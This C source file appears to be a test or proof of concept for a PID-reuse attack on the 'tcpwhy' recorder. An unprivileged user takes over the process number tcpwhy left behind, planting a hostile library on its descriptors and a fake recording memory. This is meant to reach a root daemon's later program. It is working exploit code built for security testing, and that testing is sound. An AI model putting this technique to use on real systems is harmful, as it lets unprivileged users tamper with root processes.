// A daemon of root's that outlives `tcpwhy run`, and a user who takes the number that tcpwhy had. The first process of a PID
// namespace; its folder is everybody's.
//
//   attack play TCPWHY LIBRARY   plays it, and says what came of it
//   attack daemon                becomes a daemon, waits for the user, and executes another program
//   attack call                  that program: a TCP socket, as the recorder has it
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { NOBODY = 65534, ROOM = 1 << 20, PROGRAMS = 6, LAST_FD = 15, PATIENCE = 6000 };

static void check(int good, const char *what) {
    if (!good) { perror(what); exit(99); }
}

// Waits for a file, at most a minute.
static int waited_for(const char *file) {
    struct timespec pause = {0, 10000000};
    for (int times = 0; times < PATIENCE; times++) {
        if (access(file, F_OK) == 0) return 1;
        nanosleep(&pause, NULL);
    }
    return 0;
}

static void touch(const char *file) {
    int fd = open(file, O_CREAT | O_WRONLY, 0666);
    check(fd >= 0, file);
    close(fd);
}

static int call(void) {
    int listener = socket(AF_INET, SOCK_STREAM, 0), fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t len = sizeof at;
    check(bind(listener, (struct sockaddr *)&at, sizeof at) == 0 && listen(listener, 1) == 0, "listen");
    check(getsockname(listener, (struct sockaddr *)&at, &len) == 0, "getsockname");
    check(connect(fd, (struct sockaddr *)&at, sizeof at) == 0 && send(fd, "hello", 5, 0) == 5, "send");
    touch("called");
    return 0;
}

static int daemonize(const char *self) {
    if (fork() > 0) return 0;
    setsid();
    if (fork() > 0) return 0;
    int said = open("said", O_CREAT | O_WRONLY, 0600);
    dup2(said, 2);
    touch("waits");
    if (!waited_for("taken")) return 98;
    execl(self, self, "call", NULL);
    return 97;
}

// Takes the number, as nobody, with the library and a memory of its own where tcpwhy had its.
static void take(int number, const char *library, int memory) {
    int evil = open(library, O_RDONLY);
    check(evil >= 0 && evil <= LAST_FD, library);
    int copy = fcntl(memory, F_DUPFD, LAST_FD + 1), other = fcntl(evil, F_DUPFD, LAST_FD + 1);
    check(dup2(copy, 3) == 3, "dup2");
    for (int fd = 4; fd <= LAST_FD; fd++) check(dup2(other, fd) == fd, "dup2");
    check(setgroups(0, NULL) == 0 && setgid(NOBODY) == 0 && setuid(NOBODY) == 0, "setuid");
    for (;;) {
        int child = fork();
        check(child >= 0, "fork");
        if (child == 0 && getpid() == number) {
            touch("taken");
            for (;;) pause();
        }
        if (child == 0) _exit(0);
        if (child == number) for (;;) pause();
        waitpid(child, NULL, 0);
    }
}

static int play(const char *self, const char *tcpwhy, const char *library) {
    check(getpid() == 1, "the first process");
    int number = fork();
    if (number == 0) {
        // Not by --output, whose descriptor would come before those of the recording, 3 and 4.
        int report = open("report", O_CREAT | O_WRONLY, 0600);
        check(dup2(report, 2) == 2 && close(report) == 0, "report");
        execl(tcpwhy, tcpwhy, "run", "--no-capture", "--", self, "daemon", NULL);
        _exit(96);
    }
    int status;
    check(waitpid(number, &status, 0) == number && WIFEXITED(status) && WEXITSTATUS(status) == 0, "tcpwhy");
    check(waited_for("waits"), "the daemon");
    // Owned by the user, as it would be by one who made it.
    check(setegid(NOBODY) == 0 && seteuid(NOBODY) == 0, "seteuid");
    int memory = memfd_create("calls", MFD_ALLOW_SEALING);
    check(memory >= 0 && ftruncate(memory, ROOM) == 0, "memfd_create");
    check(fcntl(memory, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_SEAL) == 0, "seals");
    check(seteuid(0) == 0 && setegid(0) == 0, "seteuid");
    unsigned long long *words = mmap(NULL, ROOM, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
    check(words != MAP_FAILED, "mmap");
    memcpy(words, "tcpwhyc1", 8);
    int user = fork();
    if (user == 0) {
        // Saves the user some seconds of forking through all the numbers.
        FILE *last = fopen("/proc/sys/kernel/ns_last_pid", "w");
        if (last) { fprintf(last, "%d", number - 1); fclose(last); }
        take(number, library, memory);
    }
    check(waited_for("called"), "the daemon's next program");
    printf("calls %llu\n", words[PROGRAMS]);
    return 0;
}

int main(int count, char **arguments) {
    // Programs find it under its full path.
    if (count == 4 && !strcmp(arguments[1], "play")) return play(arguments[0], arguments[2], arguments[3]);
    if (count == 2 && !strcmp(arguments[1], "daemon")) return daemonize(arguments[0]);
    if (count == 2 && !strcmp(arguments[1], "call")) return call();
    return 95;
}
